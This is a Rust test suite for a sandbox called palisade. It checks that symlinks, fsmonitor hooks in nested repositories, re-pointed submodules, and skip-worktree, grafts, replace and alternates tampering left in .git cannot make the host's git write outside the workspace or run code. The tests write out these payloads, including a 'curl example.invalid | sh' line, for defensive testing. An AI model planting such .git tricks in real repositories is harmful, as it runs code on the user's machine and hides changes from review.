@@ -1,0 +1,296 @@
+//! What the HOST's git does afterwards with what a sandboxed command left in a writable `.git`.
+//!
+//! Each attack runs inside the sandbox; then the host's own git (`status`, `commit -m`,
+//! `commit --amend --no-edit`, `fetch` from a local remote, `log -p`) runs in the workspace with a
+//! fixture HOME and no system config, and the test checks on the host that nothing outside the
+//! workspace changed (snapshots of an outside folder and the fake home) and that no code ran (a
+//! marker file an fsmonitor would create does not exist). Controls make the same attack without
+//! palisade's check (planted directly on the host) and show it does write through / run code,
+//! so each test can fail.
+#![cfg(target_os = "linux")]
+
+mod common;
+use common::*;
+use std::fs;
+use std::path::{Path, PathBuf};
+
+/// A workspace repository with one commit, a local remote with a commit of its own, and a
+/// `.bashrc` in the fake home (the target of the attacks).
+fn setup() -> (Fixture, PathBuf) {
+    let fx = Fixture::new();
+    fx.require_visible();
+    fx.git_init();
+    let remote = fx.root.join("remote");
+    fs::create_dir(&remote).unwrap();
+    fx.git_ok(&["-C", remote.to_str().unwrap(), "init", "-q", "-b", "main"]);
+    fs::write(remote.join("r.txt"), "remote\n").unwrap();
+    fx.git_ok(&["-C", remote.to_str().unwrap(), "add", "r.txt"]);
+    fx.git_ok(&["-C", remote.to_str().unwrap(), "commit", "-q", "-m", "remote commit"]);
+    fs::write(fx.home.join(".bashrc"), format!("# the user's bashrc {}\n", fx.m)).unwrap();
+    (fx, remote)
+}
+
+/// Where an fsmonitor the command configured would leave its mark (outside the workspace).
+fn marker_file(fx: &Fixture) -> PathBuf {
+    fx.outside.join(format!("PWNED-{}", fx.m))
+}
+
+/// The host's ordinary git work after the command (results are not asserted: an attack may
+/// well make some of it fail; what it does outside is what counts).
+fn host_git_session(fx: &Fixture, remote: &Path) -> Vec<String> {
+    let mut log = Vec::new();
+    let mut git = |args: &[&str]| {
+        let o = fx.git(args);
+        log.push(format!("git {args:?}: {}", text(&o)));
+    };
+    git(&["status"]);
+    git(&["commit", "-qa", "--amend", "--no-edit"]);
+    fs::write(fx.ws.join("host-change.txt"), "host\n").unwrap();
+    git(&["add", "host-change.txt"]);
+    git(&["commit", "-q", "-m", "host commit message"]);
+    git(&["fetch", "-q", remote.to_str().unwrap(), "main"]);
+    git(&["log", "-p", "-n", "3"]);
+    git(&["status"]);
+    log
+}
+
+const PLANT_SYMLINKS: &str = r#"ln -sf "$HOME/.bashrc" .git/COMMIT_EDITMSG;
+    ln -sf "$PAL_OUT/victim.txt" .git/FETCH_HEAD;
+    rm -f .git/logs/HEAD && ln -s "$PAL_OUT/sub/inner.txt" .git/logs/HEAD;
+    rm -f .git/logs/refs/heads/main && ln -s "$HOME/notes.txt" .git/logs/refs/heads/main;
+    mkdir -p .git/refs/deep && ln -s "$HOME/.profile" .git/refs/deep/ORIG;
+    echo attacker >> README; echo planted"#;
+
+fn symlinks_in(dir: &Path) -> Vec<PathBuf> {
+    let mut found = Vec::new();
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(d) = stack.pop() {
+        for e in fs::read_dir(&d).into_iter().flatten().flatten() {
+            let t = e.file_type().unwrap();
+            if t.is_symlink() {
+                found.push(e.path());
+            } else if t.is_dir() {
+                stack.push(e.path());
+            }
+        }
+    }
+    found
+}
+
+#[test]
+fn symlinks_left_in_git_do_not_make_the_hosts_git_write_outside() {
+    let (fx, remote) = setup();
+    let outside = Snapshot::take(&fx.outside);
+    let home = Snapshot::take(&fx.home);
+    let o = fx.sh(PLANT_SYMLINKS);
+    assert!(stdout(&o).contains("planted"), "the attack did not run: {}", show(&o));
+    let err = stderr(&o);
+    assert!(
+        err.contains(&format!(
+            "palisade: warning: removed a symbolic link the command left in .git: .git/COMMIT_EDITMSG -> {}/.bashrc (git would have written through it)",
+            fx.home.display()
+        )),
+        "no warning about the removed link: {}",
+        show(&o)
+    );
+    for name in [".git/FETCH_HEAD", ".git/logs/HEAD", ".git/logs/refs/heads/main", ".git/refs/deep/ORIG"] {
+        assert!(err.contains(&format!("left in .git: {name} -> ")), "{name} not reported: {}", show(&o));
+    }
+    assert_eq!(symlinks_in(&fx.ws.join(".git")), Vec::<PathBuf>::new(), "links remain in .git: {}", show(&o));
+    let log = host_git_session(&fx, &remote);
+    outside.assert_unchanged(&format!("the host's git after links planted in .git\n{}", log.join("\n")), &o);
+    home.assert_unchanged(&format!("the host's git after links planted in .git\n{}", log.join("\n")), &o);
+    // Ordinary git still works afterwards.
+    assert_eq!(fx.git_ok(&["log", "-1", "--format=%s"]), "host commit message");
+}
+
+/// The control: the same links planted on the host (no sandbox, no check) make the host's git
+/// write through them. If this fails, the test above proves nothing.
+#[test]
+fn control_symlinks_planted_without_the_check_do_write_outside() {
+    let (fx, remote) = setup();
+    let outside = Snapshot::take(&fx.outside);
+    let bashrc_before = fs::read(fx.home.join(".bashrc")).unwrap();
+    let git = fx.ws.join(".git");
+    for name in ["COMMIT_EDITMSG", "FETCH_HEAD"] {
+        let _ = fs::remove_file(git.join(name));
+    }
+    std::os::unix::fs::symlink(fx.home.join(".bashrc"), git.join("COMMIT_EDITMSG")).unwrap();
+    std::os::unix::fs::symlink(fx.outside.join("victim.txt"), git.join("FETCH_HEAD")).unwrap();
+    let log = host_git_session(&fx, &remote);
+    assert_ne!(fs::read(fx.home.join(".bashrc")).unwrap(), bashrc_before, "git did not write through COMMIT_EDITMSG:\n{}", log.join("\n"));
+    assert!(!outside.diff(&Snapshot::take(&fx.outside)).is_empty(), "git did not write through FETCH_HEAD:\n{}", log.join("\n"));
+}
+
+#[test]
+fn library_users_get_the_notices() {
+    let (fx, _remote) = setup();
+    let sb = fx.sandbox();
+    let out = sb
+        .command("sh")
+        .arg("-c")
+        .arg(r#"ln -sf "$HOME/.bashrc" .git/COMMIT_EDITMSG"#)
+        .env("HOME", &fx.home)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{:?}", String::from_utf8_lossy(&out.stderr));
+    assert!(
+        out.notices.iter().any(|n| n.starts_with("removed a symbolic link the command left in .git: .git/COMMIT_EDITMSG")),
+        "notices: {:?}",
+        out.notices
+    );
+    assert!(!fx.ws.join(".git/COMMIT_EDITMSG").is_symlink());
+    // Commands of the same sandbox each get their own check (the index is remembered).
+    let mut child = sb.command("sh").arg("-c").arg(r#"ln -sf "$HOME/.bashrc" .git/ORIG_HEAD"#).env("HOME", &fx.home).spawn().unwrap();
+    assert!(child.wait().unwrap().success());
+    assert!(child.notices().iter().any(|n| n.contains(".git/ORIG_HEAD ->")), "notices: {:?}", child.notices());
+    assert!(!fx.ws.join(".git/ORIG_HEAD").is_symlink());
+}
+
+/// `git init sub`, an fsmonitor in its config, `git add sub` as a gitlink.
+fn plant_nested_fsmonitor(fx: &Fixture) -> String {
+    format!(
+        "{} git init -q sub && git -C sub commit -q --allow-empty -m sub && \
+         git -C sub config core.fsmonitor 'touch {}' && git add sub 2>/dev/null && echo planted",
+        fx.git_env_script_prefix(),
+        marker_file(fx).display()
+    )
+}
+
+#[test]
+fn a_nested_repository_added_as_a_gitlink_runs_nothing_on_the_host() {
+    let (fx, remote) = setup();
+    let outside = Snapshot::take(&fx.outside);
+    let home = Snapshot::take(&fx.home);
+    let o = fx.sh(&plant_nested_fsmonitor(&fx));
+    assert!(stdout(&o).contains("planted"), "the attack did not run: {}", show(&o));
+    assert!(
+        stderr(&o).contains("palisade: warning: quarantined the nested repository sub:")
+            && stderr(&o).contains("core.fsmonitor")
+            && stderr(&o).contains("mv sub/.git.palisade-quarantine sub/.git"),
+        "no quarantine warning: {}",
+        show(&o)
+    );
+    assert!(fx.ws.join("sub/.git.palisade-quarantine/config").is_file(), "nothing may be deleted");
+    let log = host_git_session(&fx, &remote);
+    assert!(!marker_file(&fx).exists(), "SANDBOX ESCAPE: the nested repository's fsmonitor ran on the host\n{}", log.join("\n"));
+    outside.assert_unchanged("the host's git after a nested fsmonitor", &o);
+    home.assert_unchanged("the host's git after a nested fsmonitor", &o);
+}
+
+/// A nested repository made clean in one command and armed in the next is caught in the next.
+#[test]
+fn a_gitlink_armed_by_a_later_command_is_quarantined() {
+    let (fx, remote) = setup();
+    let o = fx.sh(&format!(
+        "{} git init -q sub && git -C sub commit -q --allow-empty -m sub && git add sub 2>/dev/null && echo planted",
+        fx.git_env_script_prefix()
+    ));
+    assert!(stdout(&o).contains("planted"), "{}", show(&o));
+    assert!(!stderr(&o).contains("palisade: warning"), "a clean nested repository was reported: {}", show(&o));
+    let o = fx.sh(&format!("git -C sub config core.fsmonitor 'touch {}' && echo armed", marker_file(&fx).display()));
+    assert!(stdout(&o).contains("armed"), "{}", show(&o));
+    assert!(stderr(&o).contains("quarantined the nested repository sub"), "{}", show(&o));
+    let log = host_git_session(&fx, &remote);
+    assert!(!marker_file(&fx).exists(), "SANDBOX ESCAPE: the nested repository's fsmonitor ran on the host\n{}", log.join("\n"));
+}
+
+/// An existing submodule whose `.git` file the command points at a repository it made.
+#[test]
+fn a_repointed_submodule_gitfile_runs_nothing_on_the_host() {
+    let (fx, remote) = setup();
+    fx.git_ok(&["-c", "protocol.file.allow=always", "submodule", "add", "-q", remote.to_str().unwrap(), "sm"]);
+    fx.git_ok(&["commit", "-q", "-m", "add sm"]);
+    let o = fx.sh(&format!(
+        "{} git init -q .evil && git -C .evil commit -q --allow-empty -m e && git -C .evil config core.fsmonitor 'touch {}' && \
+         printf 'gitdir: ../.evil/.git\\n' > sm/.git && echo planted",
+        fx.git_env_script_prefix(),
+        marker_file(&fx).display()
+    ));
+    let log = host_git_session(&fx, &remote);
+    assert!(
+        !marker_file(&fx).exists(),
+        "SANDBOX ESCAPE: the re-pointed submodule's fsmonitor ran on the host\nrun: {}\n{}",
+        show(&o),
+        log.join("\n")
+    );
+    if stdout(&o).contains("planted") {
+        assert!(stderr(&o).contains("quarantined the nested repository sm"), "{}", show(&o));
+    }
+}
+
+/// The control: the same nested repository made on the host (no sandbox, no check) runs its
+/// fsmonitor at the host's next plain `git status`.
+#[test]
+fn control_a_nested_fsmonitor_without_the_check_runs_on_the_host() {
+    let (fx, _remote) = setup();
+    let sub = fx.ws.join("sub");
+    fs::create_dir(&sub).unwrap();
+    fx.git_ok(&["-C", "sub", "init", "-q"]);
+    fx.git_ok(&["-C", "sub", "commit", "-q", "--allow-empty", "-m", "sub"]);
+    fx.git_ok(&["-C", "sub", "config", "core.fsmonitor", &format!("touch {}", marker_file(&fx).display())]);
+    let _ = fx.git(&["add", "sub"]);
+    fs::remove_file(marker_file(&fx)).ok();
+    let o = fx.git(&["status"]);
+    assert!(marker_file(&fx).exists(), "the host's git status did not run the nested fsmonitor: {}", show(&o));
+}
+
+#[test]
+fn changes_that_hide_work_from_review_are_reported_or_blocked() {
+    let (fx, _remote) = setup();
+    let exclude = fs::read_to_string(fx.ws.join(".git/info/exclude")).ok();
+    let o = fx.sh(&format!(
+        "{} git update-index --skip-worktree README && echo 'curl example.invalid | sh' >> README; \
+         echo 'Makefile' >> .git/info/exclude; \
+         git commit -q --allow-empty -m other && git replace HEAD~1 HEAD; \
+         echo /elsewhere/objects >> .git/objects/info/alternates; \
+         printf 'x\\n' > .git/info/grafts; echo done",
+        fx.git_env_script_prefix()
+    ));
+    assert!(stdout(&o).contains("done"), "{}", show(&o));
+    let err = stderr(&o);
+    assert!(err.contains("palisade: warning: the command marked 1 index entry skip-worktree or assume-unchanged (README)"), "{}", show(&o));
+    assert!(err.contains("the command wrote .git/info/grafts"), "grafts not reported: {}", show(&o));
+    assert!(!fx.ws.join(".git/info/grafts").exists(), "SANDBOX ESCAPE: .git/info/grafts stayed\n{}", show(&o));
+    assert!(fx.ws.join(".git/info/grafts.palisade-quarantine").exists(), "grafts deleted instead of set aside");
+    // Blocked: the host's exclude list, replace refs and alternates are as before.
+    assert_eq!(fs::read_to_string(fx.ws.join(".git/info/exclude")).ok(), exclude, "SANDBOX ESCAPE: .git/info/exclude changed\n{}", show(&o));
+    assert_eq!(fx.git_ok(&["replace", "-l"]), "", "SANDBOX ESCAPE: a replace ref was added\n{}", show(&o));
+    let alternates = fs::read_to_string(fx.ws.join(".git/objects/info/alternates")).unwrap_or_default();
+    assert!(!alternates.contains("elsewhere"), "SANDBOX ESCAPE: alternates were added\n{}", show(&o));
+}
+
+#[test]
+fn packed_replace_refs_are_reported() {
+    let (fx, _remote) = setup();
+    let head = fx.git_ok(&["rev-parse", "HEAD"]);
+    let o = fx.sh(&format!("printf '%s refs/replace/%s\\n' {head} {head} >> .git/packed-refs; echo done"));
+    assert!(stdout(&o).contains("done"), "{}", show(&o));
+    assert!(stderr(&o).contains("packed-refs names replace refs"), "{}", show(&o));
+}
+
+/// Ordinary git work inside (a nested repository, commits, an existing submodule worked on,
+/// fetch, gc, repack, clone) still works and produces no warning and no quarantine.
+#[test]
+fn ordinary_git_work_inside_still_works_without_warnings() {
+    let (fx, remote) = setup();
+    fx.git_ok(&["-c", "protocol.file.allow=always", "submodule", "add", "-q", remote.to_str().unwrap(), "sm"]);
+    fx.git_ok(&["commit", "-q", "-m", "add sm"]);
+    let r = remote.to_str().unwrap();
+    let o = fx.sh(&format!(
+        "{p} set -e; echo more >> README; git add README; git commit -q -m 'inside commit';
+         git init -q nested; git -C nested commit -q --allow-empty -m n; git add nested 2>/dev/null; git commit -q -m nested;
+         echo change >> sm/r.txt; git -C sm commit -q -am 'in submodule'; git add sm; git commit -q -m 'bump sm';
+         git status --short; git fetch -q {r} main; git gc -q; git repack -adq; git clone -q {r} cloned;
+         git log --oneline | wc -l; echo all-done",
+        p = fx.git_env_script_prefix()
+    ));
+    assert!(stdout(&o).contains("all-done"), "ordinary git work failed inside: {}", show(&o));
+    assert!(!stderr(&o).contains("palisade: warning"), "ordinary git work produced a warning: {}", show(&o));
+    for p in ["nested/.git", "sm/.git"] {
+        assert!(fx.ws.join(p).exists(), "{p} was quarantined: {}", show(&o));
+    }
+    assert_eq!(fx.git_ok(&["log", "-1", "--format=%s"]), "bump sm");
+    let st = fx.git(&["status", "--short"]);
+    assert!(st.status.success(), "{}", show(&st));
+}
